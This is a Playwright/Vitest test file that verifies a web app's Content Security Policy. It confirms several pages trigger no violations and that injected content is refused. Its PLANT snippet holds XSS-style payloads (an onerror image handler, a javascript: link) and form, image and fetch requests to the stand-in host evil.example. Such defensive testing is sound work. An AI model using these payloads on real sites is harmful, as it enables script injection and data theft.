import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { startConsole, type TestConsole } from '../support/browser.ts';

let mandat: TestConsole;
beforeAll(async () => {
  mandat = await startConsole();
});
afterAll(() => mandat.close());
afterEach(() => mandat.leave());

const WATCH = `globalThis.refused = [];
  document.addEventListener('securitypolicyviolation', (told) => refused.push(told.effectiveDirective));`;
/** What would run, or let something out, had it got into a page. */
const PLANT = `(async () => {
  globalThis.ran = [];
  const plant = (html) => document.body.insertAdjacentHTML('beforeend', html);
  plant('<img src="data:image/gif;base64,x" onerror="ran.push(1)">');
  plant('<a href="javascript:ran.push(2)" id="planted">x</a>');
  document.querySelector('#planted').click();
  plant('<iframe src="/docs"></iframe>');
  plant('<object data="/docs"></object>');
  plant('<img src="https://evil.example/x.gif">');
  plant('<form action="https://evil.example/" id="sent"></form>');
  document.querySelector('#sent').submit();
  await fetch('https://evil.example/').catch(() => ran.push('fetch refused'));
  await new Promise((resolve) => setTimeout(resolve, 500));
  return ran;
})()`;

/** What the browser refuses on a page, from its first byte on. */
async function watched(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(WATCH);
  return () => page.evaluate<readonly string[]>('refused');
}

describe('the content policy', () => {
  test.each([
    '/',
    '/marques/lumen',
    '/marques/lumen/interactions',
    '/marques/lumen/impact/call-recording?vue=screening',
    '/marques/lumen/journal',
    '/docs',
  ])('has nothing to refuse on %s', async (path) => {
    const page = await mandat.page();
    const refused = await watched(page);
    await page.goto(mandat.server.url + path);
    await page.locator('h1, h2').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(await refused()).toEqual([]);
  });

  test('runs nothing that does not bear the nonce, and lets nothing out', async () => {
    const page = await mandat.page({ unanswered: true });
    // What is refused here is told on the browser's console, as it should be.
    page.removeAllListeners('console');
    const refused = await watched(page);
    await page.goto(mandat.server.url);
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(PLANT)).toEqual(['fetch refused']);
    const all = await refused();
    for (const directive of ['script-src-attr', 'script-src-elem', 'frame-src', 'object-src', 'img-src', 'form-action'])
      expect(all).toContain(directive);
    expect(all).toContain('connect-src');
  });
});
